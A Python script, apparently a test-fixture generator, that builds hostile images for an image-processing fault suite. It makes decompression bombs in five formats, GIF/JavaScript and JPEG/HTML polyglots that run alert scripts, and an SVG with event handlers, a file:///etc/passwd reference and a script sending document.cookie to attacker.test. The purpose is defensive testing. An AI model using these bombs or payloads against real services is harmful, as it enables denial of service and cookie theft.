#!/usr/bin/env python3
"""Makes the hostile images of the fault suite. Kept for reproducibility; the files are committed, so the
tests need none of the tools named here.

Decompression bombs (tiny files whose headers declare far more than the 100 MP max_pixels; each is a
complete, valid file that decodes to its full size if nothing stops it):
  bomb.png    16000x16000 1-bit grey, every row zero (deflate's ~1000:1 limit makes it 31 KB): 256 MP
  bomb.jpg    65500x65500 greyscale baseline; the scan holds 64 blocks then ends (a JPEG cannot be
              smaller than ~2 bits a block, so a tiny one is always short): 4290 MP
  bomb.webp   16383x16383 lossless (VP8L) whose five prefix codes each have one symbol, so every pixel
              costs 0 bits: 28 bytes, 268 MP (dwebp needs 2 GB for it)
  bomb.gif    one 65535x65535 frame on a 65535x65535 screen, LZW data for one pixel: 4295 MP
  bomb.avif   16384x16384 flat grey AV1 (avifenc, from a 4:0:0 y4m): 2 KB, 268 MP (libheif needs 1.6 GB)
Others:
  frames.gif        2500 frames of 1x1 (max_frames is 1000)
  polyglot.gif      a valid GIF that is also JavaScript (GIF89a/*...*/=alert(...)//) with an HTML <script>
                    page in a comment extension and after the trailer
  polyglot.jpg      a valid JPEG with an HTML <script> page in a COM segment and after EOI
  jpeg-named.png    a JPEG (64x32 grey) named .png, so the test origin serves it as image/png
  png-magic.png     the PNG signature, then that JPEG: claims PNG by its first bytes, is not one
  tiff-named.jpg    a 1x1 uncompressed TIFF named .jpg (served as image/jpeg); TIFF is not accepted
  heic-as-avif.avif a 64x64 HEIC (HEVC, made with heif-enc) whose ftyp brands were changed to avif
  hostile.svg       script, event handlers, a javascript: link and external references

    python3 make-hostile.py   # needs avifenc (libavif-bin) and heif-enc (libheif-examples) for the two HEIF files
"""
import os, shutil, struct, subprocess, tempfile, zlib

here = os.path.dirname(os.path.abspath(__file__))


def write(name, data):
    with open(os.path.join(here, name), "wb") as f:
        f.write(data)
    print("%-18s %7d bytes" % (name, len(data)))


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width, height):
    row = b"\x00" + b"\x00" * ((width + 7) // 8)  # filter 0, then 1-bit pixels
    z = zlib.compressobj(9)
    data = b"".join(z.compress(row) for _ in range(height)) + z.flush()
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b""))


def jpeg_segment(marker, payload, length=True):
    return b"\xff" + bytes([marker]) + (struct.pack(">H", len(payload) + 2) if length else b"") + payload


def jpeg(width, height, blocks=None, comment=None):
    """Baseline greyscale JPEG, flat mid-grey: each 8x8 block is DC difference 0 then EOB, both coded
    with one-bit Huffman codes, so the scan is 2 bits a block. `blocks` cuts the scan short."""
    n = ((width + 7) // 8) * ((height + 7) // 8) if blocks is None else blocks
    bits = 2 * n
    scan = b"\x00" * (bits // 8) + (bytes([(1 << (8 - bits % 8)) - 1]) if bits % 8 else b"")  # 1-bit padding
    return (b"\xff\xd8"
            + (jpeg_segment(0xFE, comment) if comment else b"")
            + jpeg_segment(0xDB, b"\x00" + b"\x01" * 64)                                    # quantisation: all 1
            + jpeg_segment(0xC0, b"\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00")
            + jpeg_segment(0xC4, b"\x00\x01" + b"\x00" * 15 + b"\x00")                      # DC: one code -> category 0
            + jpeg_segment(0xC4, b"\x10\x01" + b"\x00" * 15 + b"\x00")                      # AC: one code -> EOB
            + jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
            + scan + b"\xff\xd9")


class Bits:
    """LSB-first bit writer (VP8L)."""
    def __init__(self):
        self.bits = []

    def put(self, value, count):
        self.bits += [(value >> i) & 1 for i in range(count)]

    def bytes(self):
        out = bytearray((len(self.bits) + 7) // 8)
        for i, bit in enumerate(self.bits):
            out[i // 8] |= bit << (i % 8)
        return bytes(out)


def webp_lossless_flat(width, height):
    b = Bits()
    b.put(width - 1, 14); b.put(height - 1, 14); b.put(0, 1); b.put(0, 3)  # size, no alpha, version 0
    b.put(0, 1)  # no transform
    b.put(0, 1)  # no colour cache
    b.put(0, 1)  # no meta prefix codes
    for _ in range(5):  # green, red, blue, alpha, distance: "simple" code, one 1-bit symbol, 0
        b.put(1, 1); b.put(0, 1); b.put(0, 1); b.put(0, 1)
    data = b"\x2f" + b.bytes()
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def gif(screen, frame=(1, 1), frames=1, comment=None, trailer=b"", header=None):
    """GIF89a with a 2-colour table; each frame one pixel of LZW data (clear, index, end: 3-bit codes)."""
    out = bytearray(header or (b"GIF89a" + struct.pack("<HH", *screen)))
    out += b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    if comment is not None:
        out += b"\x21\xfe"
        for i in range(0, len(comment), 255):
            out += bytes([len(comment[i:i + 255])]) + comment[i:i + 255]
        out += b"\x00"
    for i in range(frames):
        out += b"\x2c" + struct.pack("<HHHH", 0, 0, *frame) + b"\x00"
        codes = 4 | (i % 2) << 3 | 5 << 6
        out += b"\x02\x02" + struct.pack("<H", codes) + b"\x00"
    return bytes(out + b"\x3b" + trailer)


def tiff_1x1():
    entries = [(256, 3, 1, 1), (257, 3, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 8 + 2 + 12 * 9 + 4), (277, 3, 1, 1), (278, 3, 1, 1), (279, 4, 1, 1)]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + b"\x00" * 4
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x80"


PAGE = b"<html><body><script>alert(document.domain)</script></body></html>"

write("bomb.png", png_bomb(16000, 16000))
write("bomb.jpg", jpeg(65500, 65500, blocks=64))
write("bomb.webp", webp_lossless_flat(16383, 16383))
write("bomb.gif", gif((65535, 65535), frame=(65535, 65535)))
write("frames.gif", gif((1, 1), frames=2500))
# "GIF89a/*" makes the screen width 0x2A2F; the comment closes the JS comment and runs the payload.
write("polyglot.gif", gif(None, header=b"GIF89a/*\x01\x00", comment=b"*/=alert(document.domain);/*" + PAGE,
                          trailer=b"*///" + PAGE))
write("polyglot.jpg", jpeg(64, 32, comment=PAGE) + PAGE)
write("jpeg-named.png", jpeg(64, 32))
write("png-magic.png", b"\x89PNG\r\n\x1a\n" + jpeg(64, 32))
write("tiff-named.jpg", tiff_1x1())
write("hostile.svg", b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" onload="alert(1)">
  <script>fetch('https://attacker.test/?c=' + document.cookie)</script>
  <image href="http://images.test/img/hubble.jpg" width="60" height="60"/>
  <use xlink:href="http://images.test/img/sprite.svg#icon"/>
  <image xlink:href="file:///etc/passwd" width="1" height="1"/>
  <a href="javascript:alert(2)"><rect width="120" height="60" fill="#c33" onmouseover="alert(3)"/></a>
</svg>
""")

with tempfile.TemporaryDirectory() as tmp:
    if shutil.which("avifenc"):
        y4m = os.path.join(tmp, "flat.y4m")
        with open(y4m, "wb") as f:
            f.write(b"YUV4MPEG2 W16384 H16384 F25:1 Ip A1:1 Cmono\nFRAME\n")
            row = b"\x80" * 16384
            for _ in range(16384):
                f.write(row)
        subprocess.run(["avifenc", "-s", "10", "--min", "63", "--max", "63", "-j", "2", y4m,
                        os.path.join(tmp, "bomb.avif")], check=True, stdout=subprocess.DEVNULL)
        write("bomb.avif", open(os.path.join(tmp, "bomb.avif"), "rb").read())
    else:
        print("bomb.avif: kept as committed (no avifenc)")
    if shutil.which("heif-enc"):
        src = os.path.join(tmp, "grey.png")
        open(src, "wb").write(b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0))
                              + png_chunk(b"IDAT", zlib.compress((b"\x00" + b"\x80" * 64) * 64)) + png_chunk(b"IEND", b""))
        subprocess.run(["heif-enc", "-q", "50", "-o", os.path.join(tmp, "grey.heic"), src], check=True,
                       stdout=subprocess.DEVNULL)
        heic = bytearray(open(os.path.join(tmp, "grey.heic"), "rb").read())
        ftyp = int.from_bytes(heic[0:4], "big")
        assert heic[4:12] == b"ftypheic", heic[:12]
        heic[:ftyp] = heic[:ftyp].replace(b"heic", b"avif")  # major and compatible brands
        write("heic-as-avif.avif", bytes(heic))
    else:
        print("heic-as-avif.avif: kept as committed (no heif-enc)")
